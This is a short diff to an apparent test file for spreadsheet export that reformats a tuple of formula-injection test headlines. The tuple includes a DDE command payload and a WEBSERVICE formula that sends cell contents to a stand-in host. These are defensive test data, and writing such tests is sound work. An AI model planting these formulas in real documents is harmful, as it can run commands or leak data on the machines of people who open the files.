@@ -25,7 +25,8 @@ TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
 HEADLINES = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://away.test";"x")', "=cmd|'/C x'!A0",
     '=WEBSERVICE("http://away.test/"&A1)', "\t=1+1", "  =1+1", "＝1+1", "'=1+1", "''two", "|x",
-    "%0A=1", "_x0041_", "3-4", "007", "true", "FALSE", "حقوق الإنسان: 45% من «العينة» (12/03/2026)", "<b>&amp;</b>",
+    "%0A=1", "_x0041_", "3-4", "007",
+    "true", "FALSE", "حقوق الإنسان: 45% من «العينة» (12/03/2026)", "<b>&amp;</b>",
     "a;b,c\"d\"", "خبر (=SUM) عادي", "ڕێکخراوی می\u200cخواهم",
 )  # fmt: skip
 NAMES = [column.name for column in columns("articles")]
